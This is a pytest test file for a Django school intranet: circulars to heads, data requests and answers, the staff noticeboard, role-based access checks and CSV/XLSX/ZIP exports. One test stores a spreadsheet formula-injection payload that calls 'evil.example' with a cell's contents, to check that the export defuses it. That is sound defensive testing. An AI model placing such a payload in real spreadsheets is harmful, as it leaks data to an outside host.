"""The intranet's pages: who reaches them, what they show, the downloads."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from intranet import services
from intranet.models import Circular, DataRequest, Post, RequestAnswer
from tests.factories import SchoolFactory
from tests.factories.intranet import (
    circular_create,
    document_request_create,
    form_request_create,
    form_values,
    headteacher,
    pdf,
    post_create,
)


def test_officer_sends_a_circular_with_an_attachment(iw, login):
    client = login(iw.officer)
    assert client.get(reverse("intranet:circular_new")).status_code == 200
    response = client.post(
        reverse("intranet:circular_new"),
        {
            "subject": "Rekrutacja",
            "body": "Szczegóły: https://example.org/rekrutacja",
            "schools": [iw.a.school.pk],
            "files": [SimpleUploadedFile("plan.pdf", b"%PDF-1.4 plan")],
        },
    )
    circular = Circular.objects.get()
    assert response.status_code == 302
    assert circular.attachments.get().name == "plan.pdf"
    page = client.get(reverse("intranet:circular", args=[circular.pk])).content.decode()
    assert '<a href="https://example.org/rekrutacja" rel="nofollow">' in page
    assert iw.a.school.name in page and iw.b.school.name not in page


def test_a_bad_attachment_keeps_what_was_typed(iw, login):
    client = login(iw.officer)
    response = client.post(
        reverse("intranet:circular_new"),
        {"subject": "Rekrutacja", "body": "Tekst", "files": [SimpleUploadedFile("x.exe", b"MZ")]},
    )
    assert response.status_code == 200
    assert "Rekrutacja" in response.content.decode()
    assert not Circular.objects.exists()


@pytest.mark.parametrize("who", ["head", "admin", "teacher", "guardian"])
def test_only_officers_reach_the_send_pages(iw, login, who):
    client = login(getattr(iw.a, who))
    for name in ("intranet:circular_new", "intranet:request_new", "intranet:post_new"):
        assert client.get(reverse(name)).status_code == 404
        assert client.post(reverse(name), {"subject": "x", "title": "x"}).status_code == 404
    assert not Circular.objects.exists() and not Post.objects.exists()


def test_recipient_list_marks_unread_and_the_page_marks_read(iw, login):
    circular = circular_create(iw.officer, [iw.a.school], subject="Okólnik A")
    client = login(iw.a.head)
    page = client.get(reverse("intranet:circulars")).content.decode()
    assert "Okólnik A" in page and "nieprzeczytany" in page
    client.get(reverse("intranet:circular", args=[circular.pk]))
    assert circular.recipients.get(person=iw.a.head).read_at is not None
    assert "nieprzeczytany" not in client.get(reverse("intranet:circulars")).content.decode()
    # the officer sees who read it, per school
    officer = login(iw.officer)
    receipts = officer.get(reverse("intranet:circular", args=[circular.pk])).content.decode()
    assert iw.a.head.get_full_name() in receipts and "nieprzeczytany" in receipts


def test_other_schools_heads_do_not_see_the_circular(iw, login):
    circular = circular_create(iw.officer, [iw.a.school], subject="Tylko dla A")
    client = login(iw.b.head)
    assert client.get(reverse("intranet:circular", args=[circular.pk])).status_code == 404
    assert circular.subject not in client.get(reverse("intranet:circulars")).content.decode()


def test_attachments_are_served_only_to_those_who_see_them(iw, login, client):
    circular = circular_create(iw.officer, [iw.a.school], files=[pdf("okolnik.pdf")])
    post = post_create(iw.officer, files=[pdf("plakat.pdf")])
    c_file = reverse("intranet:attachment", args=[circular.attachments.get().pk])
    p_file = reverse("intranet:attachment", args=[post.attachments.get().pk])
    assert login(iw.a.head).get(c_file).status_code == 200
    response = login(iw.officer).get(c_file)
    assert response.status_code == 200 and response["Cache-Control"] == "private, no-store"
    for outsider in (iw.b.head, iw.a.teacher, iw.a.guardian, iw.a.pupil):
        assert login(outsider).get(c_file).status_code == 404
    assert login(iw.a.teacher).get(p_file).status_code == 200
    for outsider in (iw.a.guardian, iw.a.pupil):
        assert login(outsider).get(p_file).status_code == 404
    client.logout()
    assert client.get(p_file).status_code == 302


def test_officer_creates_a_form_request(iw, login):
    client = login(iw.officer)
    data = {
        "title": "Liczebność oddziałów",
        "description": "",
        "kind": "form",
        "deadline": "2026-03-25",
        "schools": [iw.a.school.pk, iw.b.school.pk],
        "fields-TOTAL_FORMS": "5",
        "fields-INITIAL_FORMS": "0",
        "fields-0-label": "Liczba oddziałów",
        "fields-0-kind": "number",
        "fields-0-required": "on",
        "fields-1-label": "Sala?",
        "fields-1-kind": "yesno",
    }
    for i in range(2, 5):
        data[f"fields-{i}-kind"] = "text"
    response = client.post(reverse("intranet:request_new"), data)
    assert response.status_code == 302, response.content.decode()[:2000]
    req = DataRequest.objects.get()
    assert [f.label for f in req.fields.all()] == ["Liczba oddziałów", "Sala?"]
    assert set(req.schools.all()) == {iw.a.school, iw.b.school}


def test_head_answers_the_form_in_the_portal(iw, login):
    req = form_request_create(iw.officer, [iw.a.school])
    fields = list(req.fields.all())
    client = login(iw.a.head)
    url = reverse("intranet:answer", args=[req.pk, iw.a.school.pk])
    assert client.get(url).status_code == 200
    response = client.post(url, {f"f{fields[0].pk}": "7", f"f{fields[1].pk}": "1"})
    assert response.status_code == 302
    answer = RequestAnswer.objects.get()
    assert answer.values == {str(fields[0].pk): "7", str(fields[1].pk): True, str(fields[2].pk): ""}
    assert client.get(url).status_code == 200


def test_crafted_post_for_another_school_is_refused(iw, login):
    req = form_request_create(iw.officer, [iw.a.school, iw.b.school])
    fields = list(req.fields.all())
    client = login(iw.a.head)
    url = reverse("intranet:answer", args=[req.pk, iw.b.school.pk])
    response = client.post(url, {f"f{fields[0].pk}": "7", f"f{fields[1].pk}": "1"})
    assert response.status_code == 404
    assert client.get(url).status_code == 404
    assert not RequestAnswer.objects.exists()
    # and school B's answer is not shown to school A
    services.answer_save(
        data_request=req, school_id=iw.b.school.pk, user=iw.b.head, values=form_values(req)
    )
    page = client.get(reverse("intranet:request", args=[req.pk])).content.decode()
    assert iw.b.school.name not in page and iw.b.head.get_full_name() not in page


def test_teachers_do_not_reach_requests(iw, login):
    req = form_request_create(iw.officer, [iw.a.school])
    client = login(iw.a.teacher)
    assert client.get(reverse("intranet:requests")).status_code == 404
    assert client.get(reverse("intranet:request", args=[req.pk])).status_code == 404


def test_status_page_shows_answered_late_and_overdue(iw, login, clock):
    third = SchoolFactory(name="Szkoła Trzecia")
    req = form_request_create(iw.officer, [iw.a.school, iw.b.school, third], days=1)
    services.answer_save(
        data_request=req, school_id=iw.a.school.pk, user=iw.a.head, values=form_values(req)
    )
    clock.move_to("2026-03-20 09:00:00+01:00")
    services.answer_save(
        data_request=req, school_id=iw.b.school.pk, user=iw.b.admin, values=form_values(req)
    )
    page = login(iw.officer).get(reverse("intranet:request", args=[req.pk])).content.decode()
    assert "odpowiedziano po terminie" in page
    assert "brak odpowiedzi, po terminie" in page
    assert iw.b.admin.get_full_name() in page


def test_the_officer_closes_a_request(iw, login):
    req = document_request_create(iw.officer, [iw.a.school])
    url = reverse("intranet:request_close", args=[req.pk])
    assert login(iw.a.head).post(url).status_code == 404
    assert login(iw.officer).post(url).status_code == 302
    req.refresh_from_db()
    assert req.is_closed
    page = login(iw.a.head).get(reverse("intranet:answer", args=[req.pk, iw.a.school.pk]))
    assert "zamknięta" in page.content.decode()


def test_an_answer_never_runs_as_a_formula_in_the_office_s_spreadsheet(iw, login):
    req = form_request_create(iw.officer, [iw.a.school])
    attack = '=HYPERLINK("https://evil.example/?"&A2,"klik")'
    services.answer_save(
        data_request=req,
        school_id=iw.a.school.pk,
        user=iw.a.head,
        values=form_values(req, "12", False, attack),
    )
    client = login(iw.officer)
    response = client.get(reverse("intranet:request_export", args=[req.pk, "csv"]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[1][7] == "'" + attack
    response = client.get(reverse("intranet:request_export", args=[req.pk, "xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    assert "'" + attack in [c.value for c in cells]


def test_downloads_csv_and_xlsx(iw, login):
    req = form_request_create(iw.officer, [iw.a.school, iw.b.school])
    services.answer_save(
        data_request=req,
        school_id=iw.a.school.pk,
        user=iw.a.head,
        values=form_values(req, "12", False, "Zażółć"),
    )
    client = login(iw.officer)
    response = client.get(reverse("intranet:request_export", args=[req.pk, "csv"]))
    assert response.status_code == 200
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:5] == ["Szkoła", "Stan", "Odpowiedź od", "Data odpowiedzi", "Po terminie"]
    assert rows[0][5:] == ["Liczba oddziałów", "Czy potrzebna sala?", "Uwagi", "Uwagi szkoły"]
    by_school = {r[0]: r for r in rows[1:]}
    assert by_school[iw.a.school.name][5:8] == ["12", "nie", "Zażółć"]
    assert by_school[iw.b.school.name][1] == "brak odpowiedzi"
    response = client.get(reverse("intranet:request_export", args=[req.pk, "xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0][0] == "Szkoła"
    row_a = next(v for v in values if v[0] == iw.a.school.name)
    assert row_a[5] == 12 and row_a[6] == "nie"
    # a school head may not download
    assert (
        login(iw.a.head).get(reverse("intranet:request_export", args=[req.pk, "csv"])).status_code
        == 404
    )


def test_download_zip_of_files(iw, login):
    req = document_request_create(iw.officer, [iw.a.school, iw.b.school])
    for side in (iw.a, iw.b):
        services.answer_save(
            data_request=req,
            school_id=side.school.pk,
            user=side.head,
            file=pdf("raport.pdf", b"%PDF " + side.school.short_name.encode()),
        )
    response = login(iw.officer).get(reverse("intranet:request_export", args=[req.pk, "zip"]))
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    names = sorted(archive.namelist())
    assert names == sorted(f"{s.school.short_name} - raport.pdf" for s in (iw.a, iw.b))
    assert archive.read(f"{iw.a.school.short_name} - raport.pdf") == b"%PDF a"
    # each school's file: its heads and the office only
    url = reverse("intranet:answer_file", args=[req.pk, iw.b.school.pk])
    assert login(iw.b.head).get(url).status_code == 200
    assert login(iw.a.head).get(url).status_code == 404
    assert login(iw.b.teacher).get(url).status_code == 404


def test_noticeboard_visible_to_staff_only(iw, login, client, clock):
    import datetime

    post = post_create(iw.officer, title="Szkolenie BHP")
    old = post_create(iw.officer, title="Stare ogłoszenie", expires_on=datetime.date(2026, 3, 19))
    clock.move_to("2026-03-21 10:00:00+01:00")
    detail = reverse("intranet:post", args=[post.pk])
    for user in (iw.a.teacher, iw.a.homeroom, iw.a.librarian, iw.b.admin, iw.a.head, iw.officer):
        c = login(user)
        listing = c.get(reverse("intranet:posts")).content.decode()
        assert "Szkolenie BHP" in listing
        assert c.get(detail).status_code == 200
    assert (
        "Stare ogłoszenie"
        not in login(iw.a.teacher).get(reverse("intranet:posts")).content.decode()
    )
    assert login(iw.a.teacher).get(reverse("intranet:post", args=[old.pk])).status_code == 404
    for outsider in (iw.a.guardian, iw.a.pupil):
        c = login(outsider)
        assert c.get(reverse("intranet:posts")).status_code == 404
        assert c.get(detail).status_code == 404
    client.logout()
    assert client.get(detail).status_code == 302


def test_dashboard_panels(iw, login):
    req = form_request_create(iw.officer, [iw.a.school], title="Sprawozdanie kwartalne")
    page = login(iw.a.head).get(reverse("portal:dashboard")).content.decode()
    assert "Sprawozdanie kwartalne" in page
    page = login(iw.officer).get(reverse("portal:dashboard")).content.decode()
    assert "Sprawozdanie kwartalne" in page and "0 z 1 szkół" in page
    page = login(iw.b.head).get(reverse("portal:dashboard")).content.decode()
    assert "Sprawozdanie kwartalne" not in page
    assert req.pk


def _status_page_queries(iw, login, size):
    schools = [iw.a.school] + [SchoolFactory() for _ in range(size - 1)]
    req = form_request_create(iw.officer, schools, title=f"R{size}")
    for school in schools[: size // 2]:
        head = headteacher(school, f"head-{size}-{school.pk}")
        services.answer_save(
            data_request=req, school_id=school.pk, user=head, values=form_values(req)
        )
    client = login(iw.officer)
    url = reverse("intranet:request", args=[req.pk])
    client.get(url)
    with CaptureQueriesContext(connection) as captured:
        assert client.get(url).status_code == 200
    return len(captured)


def test_status_page_queries_do_not_grow_with_schools(iw, login, django_assert_num_queries):
    small = _status_page_queries(iw, login, 3)
    large = _status_page_queries(iw, login, 12)
    assert small == large
    # and the same bound, asserted as the suite does elsewhere
    schools = [SchoolFactory() for _ in range(5)]
    req = form_request_create(iw.officer, schools, title="R5")
    client = login(iw.officer)
    client.get(reverse("intranet:request", args=[req.pk]))
    with django_assert_num_queries(small):
        client.get(reverse("intranet:request", args=[req.pk]))


def test_officer_lists_show_counts(iw, login):
    circular_create(iw.officer, [iw.a.school], subject="Okólnik do A")
    req = form_request_create(iw.officer, [iw.a.school, iw.b.school], title="Dane kadrowe")
    services.answer_save(
        data_request=req, school_id=iw.a.school.pk, user=iw.a.head, values=form_values(req)
    )
    client = login(iw.officer)
    page = client.get(reverse("intranet:circulars")).content.decode()
    assert "Okólnik do A" in page and "przeczytało 0 z 2" in page
    page = client.get(reverse("intranet:requests")).content.decode()
    assert "Dane kadrowe" in page and "1 z 2" in page
